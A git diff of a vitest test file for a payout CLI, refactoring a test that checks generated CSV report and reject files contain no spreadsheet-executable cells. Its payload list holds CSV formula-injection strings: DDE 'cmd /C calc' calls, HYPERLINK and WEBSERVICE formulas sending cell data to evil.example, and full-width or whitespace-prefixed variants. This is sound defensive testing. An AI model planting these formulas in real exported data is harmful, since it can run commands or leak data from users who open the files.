@@ -1,4 +1,3 @@
-import { readFileSync } from 'node:fs';
 import { describe, expect, test } from 'vitest';
 import { csv } from '../support/builders.js';
 import { workspace } from '../support/cli.js';
@@ -6,26 +5,10 @@ import { testService } from '../support/fixtures.js';
 
 /** What a spreadsheet would run. */
 const FORMULAS: readonly string[] = [
-  '=1+1',
-  "=cmd|'/C calc'!A0",
-  '=HYPERLINK("https://evil.example?x="&A1,"click")',
-  '=WEBSERVICE("https://evil.example")',
-  '=DDE("cmd";"/C calc";"x")',
-  '+1+1',
-  "+cmd|' /C calc'!A0",
-  '-1+1',
-  "-2+3+cmd|' /C calc'!A0",
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  '＝1+1',
-  '＋1',
-  '－1',
-  '＠SUM(1)',
-  "'=1+1",
-  '"=1+1"',
-  '=1+1\n=2+2',
+  ...['=1+1', "=cmd|'/C calc'!A0", '=HYPERLINK("https://evil.example?x="&A1,"click")'],
+  ...['=WEBSERVICE("https://evil.example")', '=DDE("cmd";"/C calc";"x")', '+1+1', "+cmd|' /C calc'!A0", '-1+1'],
+  ...["-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1'],
+  ...['＠SUM(1)', "'=1+1", '"=1+1"', '=1+1\n=2+2'],
 ];
 
 /** Cells of RFC 4180. */
@@ -39,37 +22,27 @@ describe('no CSV that is written has a cell that a spreadsheet runs', () => {
 
   test('reports and rejects of every delimiter', async () => {
     const ws = workspace();
-    const rows = FORMULAS.map((text, n) => ({
-      user_id: `u${n}`,
-      amount: n + 1,
-      title: text,
-      description: text,
-      cost_center_key: text,
-      idempotency_key: `${text}${n}`,
-    }));
     const service = await testService({
       respond: ({ n }) =>
         n % 2 === 0
           ? { status: 422, body: `=1+1 ${n}` }
           : { status: 201, body: JSON.stringify({ id: FORMULAS[n % FORMULAS.length] }) },
     });
-    for (const delimiter of [',', ';', '\t', '|']) {
-      const name = `=in${',;\t|'.indexOf(delimiter)}.csv`;
+    for (const [i, delimiter] of [',', ';', '\t', '|'].entries()) {
+      const name = `=in${i}.csv`;
+      const rows = FORMULAS.map((text, n) => ({
+        ...{ user_id: `u${n}`, amount: n + 1, title: text, description: text, cost_center_key: text },
+        idempotency_key: `${text}${n}${delimiter}`,
+      }));
       const before = delimiter === ';' ? ['sep=;', '=1+1;＝2'] : [];
-      ws.file(
-        name,
-        csv(
-          rows.map((row) => ({ ...row, idempotency_key: row.idempotency_key + delimiter })),
-          { delimiter, before },
-        ),
-      );
-      const header = before.length === 0 ? [] : ['--header-line', '3'];
-      const outputs = ['--report', 'r.csv', '--rejects', 'rejects.csv'];
-      const target = ['--base-url', service.url, '--yes', '--batch-id', name, '--send-similar', '20'];
-      const { code, stderr } = await ws.run(['payout', 'create', name, ...target, ...header, ...outputs]);
+      ws.file(name, csv(rows, { delimiter, before }));
+      const header = delimiter === ';' ? '--header-line 3' : '';
+      const target = `--base-url ${service.url} --yes --batch-id ${name} --send-similar 20`;
+      const call = `payout create ${name} ${target} ${header} --report r.csv --rejects rejects.csv`;
+      const { code, stderr } = await ws.run(call);
       expect(code, stderr).toBe(4);
-      const files = [readFileSync(ws.path('r.csv'), 'utf8'), readFileSync(ws.path('rejects.csv'), 'utf8')];
-      const cells = [...cellsOf(files[0]!, ','), ...cellsOf(files[1]!.replace('sep=;\n', ''), delimiter)];
+      const rejects = ws.read('rejects.csv').replace('sep=;\n', '');
+      const cells = [...cellsOf(ws.read('r.csv'), ','), ...cellsOf(rejects, delimiter)];
       expect(cells.length).toBeGreaterThan(100);
       expect(cells.filter((cell) => RUN.test(cell))).toEqual([]);
     }
